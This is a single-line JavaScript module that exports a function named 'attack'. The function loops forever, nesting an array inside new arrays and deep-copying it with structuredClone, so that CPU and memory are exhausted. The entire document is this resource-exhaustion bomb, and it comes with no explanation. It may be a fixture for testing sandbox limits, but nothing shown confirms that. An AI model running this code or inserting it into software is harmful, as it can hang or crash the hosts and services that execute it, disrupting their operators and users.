exports.attack = () => { let bomb = [1]; for (;;) bomb = structuredClone([bomb, bomb, bomb]); };
